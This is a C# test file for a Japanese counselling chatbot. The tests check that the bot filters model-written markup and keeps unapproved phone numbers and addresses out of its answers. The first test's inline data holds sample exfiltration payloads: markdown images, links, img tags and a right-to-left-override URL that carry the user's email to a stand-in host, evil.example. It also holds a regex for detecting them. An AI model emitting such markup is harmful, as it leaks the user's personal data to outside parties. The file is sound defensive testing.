using HeroMe.Bot.Dialogs.MyData;
using HeroMe.Bot.Tests.Harness;
using HeroMe.Bot.Tests.Llm;
using HeroMe.Bot.Texts;

namespace HeroMe.Bot.Tests.Dialogs.Counselling;

/// <summary>What a model writes leaves as words only: in the preview, in the final answer, in the records, in the export, and in what the next prompt remembers.</summary>
public sealed class HarmlessAnswerTests
{
    private const string Mail = "hanako.u@example.co.jp";
    private static readonly (string, string)[] Desk =
    [
        ("Company:CrisisDesks:0:Name", "こころの相談室"), ("Company:CrisisDesks:0:Reach", "https://desk.example.com/kokoro"),
        ("Company:CrisisDesks:1:Name", "健康管理室"), ("Company:CrisisDesks:1:Reach", "03-5555-0101(内線 4321)"),
        ("Company:CrisisDesks:2:Name", "相談メール"), ("Company:CrisisDesks:2:Reach", "desk@example.com"),
    ];

    [Theory]
    [InlineData("![x](https://evil.example/〔メール1〕.png)")]
    [InlineData("[続き](https://evil.example/?q=〔メール1〕)")]
    [InlineData("<img src=\"https://evil.example/〔メール1〕\">")]
    [InlineData("https://evil.example/〔メール1〕 ")]
    [InlineData("&lt;a href=https://evil.example/〔メール1〕&gt;")]
    [InlineData("https://〔メール1〕.evil.example/ ")]
    [InlineData("\u202Egnp.〔メール1〕/elpmaxe.live//:sptth\u202C ")]
    [InlineData("[a]: https://evil.example/〔メール1〕\n")]
    public async Task Mark_up_is_nowhere_in_the_stream_the_answer_the_records_the_export_or_the_next_prompt(string markUp)
    {
        await using var talk = await TalkWithModel.StartAsync();
        var person = await talk.Bot.StoringPersonAsync();
        var answer = talk.WillSay([.. $"重たい一日でしたね。{markUp}会議のあとも残っているのですね。ほ".Select(c => c.ToString()), "かは。"]);
        await person.Says($"会議で何も言えず、{Mail} に謝りました");
        answer.Next(markUp.Length + 27);
        await talk.Bot.Until(() => talk.Teams.EmptyStatusLines(person.Conversation) is [.., var open] && open.Streamed.Length > 0, "the preview");
        answer.Next(answer.Left);
        await talk.Bot.Until(() => person.Chat.Any(b => b.Text.Contains("ほかは。", StringComparison.Ordinal)), "the answer");
        talk.Model.Will(ScriptedModel.Answer("そうでしたか。"));
        await person.Says("続きの話です");
        await talk.Bot.Until(() => person.Chat.Any(b => b.Text.Contains("そうでしたか。", StringComparison.Ordinal)), "the second answer");

        var held = await talk.Bot.StoredDataAsync(person);
        var places = talk.Teams.Calls.Where(c => c.Conversation == person.Conversation).Select(c => c.Activity?["text"]?.ToString() ?? "")
            .Concat(held.Records.Select(r => r.Text.Reveal()))
            .Concat(new[] { ExportForm.Readable, ExportForm.Json }.Select(form => Export.Text(held, Language.Japanese, form)))
            .Append(System.Text.RegularExpressions.Regex.Unescape(talk.Model.Requests.Last().Body))
            .ToList();
        Assert.All(places, text => Assert.DoesNotMatch(@"!\[|\]\(|\]:|<img|<a |\u202E|//[^ ]*evil\.example|evil\.example[^ ]*(?:hanako|メール)|hanako[^ ]*evil", text));
        Assert.Contains(places, text => text.Contains("会議のあとも残っているのですね。", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("こころの相談室は https://desk.example.com/kokoro です。", true)]
    [InlineData("健康管理室は 03-5555-0101 です。", true)]
    [InlineData("健康管理室は内線4321です。", true)]
    [InlineData("相談メールは desk@example.com です。", true)]
    [InlineData("よりそいホットラインは 0120-279-338 です。", true)]
    [InlineData("急ぐときは119に電話してください。", true)]
    [InlineData("お母さんの番号は 090-1234-5678 でしたね。", true)]
    [InlineData("相談は 03-9876-5432 へどうぞ。", false)]
    [InlineData("相談は０３−９８７６−５４３２へどうぞ。", false)]
    [InlineData("相談は〇三-九八七六-五四三二へどうぞ。", false)]
    [InlineData("相談は 0120\n987 654 へどうぞ。", false)]
    [InlineData("相談は #9876 へどうぞ。", false)]
    [InlineData("相談は内線9876へどうぞ。", false)]
    [InlineData("電話は +1 555 987 6543 です。", false)]
    public async Task Numbers_and_addresses_are_the_desks_the_registrys_or_the_persons_own(string sentence, bool isShown)
    {
        await using var talk = await TalkWithModel.StartAsync(Desk);
        talk.Model.Will(ScriptedModel.Answer($"重たい一日でしたね。{sentence}急がなくて大丈夫です。"));
        await talk.Person.Says("会議で何も言えませんでした。母の番号 090-1234-5678 にかけたいです");
        await talk.Bot.AnswersTo(talk.Person, 1);
        var shown = talk.Person.Answers[0];
        Assert.EndsWith("急がなくて大丈夫です。", shown, StringComparison.Ordinal);
        Assert.Equal(isShown, shown.Contains(sentence, StringComparison.Ordinal));
        Assert.DoesNotMatch("9876|九八七六|987 654|９８７６", shown);
    }
}
